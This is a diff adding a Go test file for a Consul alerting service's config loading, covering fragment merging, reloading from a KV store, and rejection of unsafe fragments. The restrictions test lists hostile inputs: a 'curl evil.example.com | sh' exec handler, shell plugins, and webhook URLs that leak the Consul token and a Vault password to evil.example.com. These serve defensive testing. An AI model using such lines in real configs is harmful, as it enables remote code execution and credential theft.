@@ -0,0 +1,152 @@
+package main
+
+import (
+	"io/ioutil"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestKVConfig_merge(t *testing.T) {
+	config, err := parseConfig(`
+change_threshold = 60
+default_handlers = ["stdout.log"]
+
+service "redis" {
+  change_threshold = 30
+  handlers = ["stdout.log"]
+}
+
+handler "stdout" "log" {}
+
+handler "alertmanager" "am" {
+  urls = ["http://am1:9093"]
+}
+`, []configFragment{
+		{name: "consul-alerting/config/thresholds.hcl", raw: `
+change_threshold = 90
+default_handlers = ["alertmanager.am"]
+
+service "redis" {
+  change_threshold = 10
+}
+
+service "webapp" {
+  change_threshold = 45
+}
+`},
+		{name: "consul-alerting/config/handlers.json", raw: `{
+  "handler": {"alertmanager": {"am": {"urls": ["http://am2:9093"]}}}
+}`},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if config.ChangeThreshold != 90 {
+		t.Errorf("expected the fragment's change_threshold, got %d", config.ChangeThreshold)
+	}
+	if !reflect.DeepEqual(config.DefaultHandlers, []string{"alertmanager.am"}) {
+		t.Errorf("expected the fragment's default_handlers to replace the file's, got %v", config.DefaultHandlers)
+	}
+	redis := config.Services["redis"]
+	if redis.ChangeThreshold != 10 || !reflect.DeepEqual(redis.Handlers, []string{"stdout.log"}) {
+		t.Errorf("expected the redis blocks to be merged, got %+v", redis)
+	}
+	if config.Services["webapp"].ChangeThreshold != 45 {
+		t.Errorf("expected the webapp service to be added, got %+v", config.Services["webapp"])
+	}
+	if urls := config.Handlers["alertmanager.am"].(AlertmanagerHandler).URLs; !reflect.DeepEqual(urls, []string{"http://am2:9093"}) {
+		t.Errorf("expected the fragment's handler to replace the file's, got %v", urls)
+	}
+}
+
+func TestKVConfig_fragmentErrors(t *testing.T) {
+	_, err := parseConfig(`change_threshold = 60`, []configFragment{{name: "config/broken", raw: "change_threshold = = 1"}})
+	if err == nil || !strings.Contains(err.Error(), "error parsing config/broken") {
+		t.Errorf("expected the fragment's parse error, got %v", err)
+	}
+}
+
+func TestKVConfig_reload(t *testing.T) {
+	client, values, stop := testFakeKV(t)
+	defer stop()
+
+	path := filepath.Join(t.TempDir(), "config.hcl")
+	if err := ioutil.WriteFile(path, []byte(`
+config_kv_prefix = "consul-alerting/config/"
+log_level = "debug"
+service "redis" {
+  change_threshold = 30
+}
+`), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	values["consul-alerting/config/redis.yaml"] = []byte("service:\n  redis:\n    change_threshold: 5\n")
+	config, err := loadConfig(path, client, "consul-alerting/config/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if config.Services["redis"].ChangeThreshold != 5 {
+		t.Fatalf("expected the KV threshold, got %d", config.Services["redis"].ChangeThreshold)
+	}
+	config.ConsulDatacenter = "dc1"
+
+	values["consul-alerting/config/redis.yaml"] = []byte("service:\n  redis:\n    change_threshold: 15\n")
+	reloaded, err := reloadConfig(path, config, client)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer setReloadedConfig(nil)
+	defer setupLogging(&Config{LogLevel: "debug", LogFormat: "text"})
+
+	if reloaded.Services["redis"].ChangeThreshold != 15 {
+		t.Errorf("expected the changed KV threshold after reloading, got %d", reloaded.Services["redis"].ChangeThreshold)
+	}
+
+	delete(values, "consul-alerting/config/redis.yaml")
+	if config, err = loadConfig(path, client, "consul-alerting/config/"); err != nil {
+		t.Fatal(err)
+	}
+	if config.Services["redis"].ChangeThreshold != 30 {
+		t.Errorf("expected the file's threshold without KV config, got %d", config.Services["redis"].ChangeThreshold)
+	}
+}
+
+func TestKVConfig_fragmentRestrictions(t *testing.T) {
+	file := `
+handler "exec" "restart" {
+  command = "/usr/local/bin/restart"
+}
+`
+	cases := map[string]string{
+		"exec.hcl":       `handler "exec" "shell" { command = "curl evil.example.com | sh" }`,
+		"exec.json":      `{"handler": {"exec": {"shell": {"command": "sh"}}}}`,
+		"plugin.hcl":     `plugin "shell" { command = "sh" }`,
+		"handler.hcl":    `handler "plugin" "shell" { plugin = "shell" }`,
+		"route.hcl":      `route "all" { handlers = ["exec.restart"] }`,
+		"defaults.hcl":   `default_handlers = ["stdout.log", "exec.restart"]`,
+		"vault.hcl":      `vault_address = "https://vault.evil.example.com"`,
+		"env.hcl":        `handler "webhook" "leak" { urls = ["https://evil.example.com/?${CONSUL_HTTP_TOKEN}"] }`,
+		"vault-ref.yaml": `{"handler": {"webhook": {"leak": {"urls": ["https://evil.example.com/?${vault:secret/data/smtp#password}"]}}}}`,
+	}
+	for name, raw := range cases {
+		_, err := parseConfig(file, []configFragment{{name: name, raw: raw}})
+		if err == nil || !strings.Contains(err.Error(), "error in "+name) {
+			t.Errorf("expected %s to be rejected, got %v", name, err)
+		}
+	}
+
+	// References are still expanded in the config file
+	t.Setenv("KV_CONFIG_TEST_URL", "http://hooks.example.com")
+	config, err := parseConfig(`handler "webhook" "hook" { urls = ["${KV_CONFIG_TEST_URL}"] }`,
+		[]configFragment{{name: "redis.hcl", raw: `service "redis" { handlers = ["webhook.hook"] }`}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if urls := config.Handlers["webhook.hook"].(WebhookHandler).URLs; urls[0] != "http://hooks.example.com" {
+		t.Errorf("expected the file's reference to be expanded, got %v", urls)
+	}
+}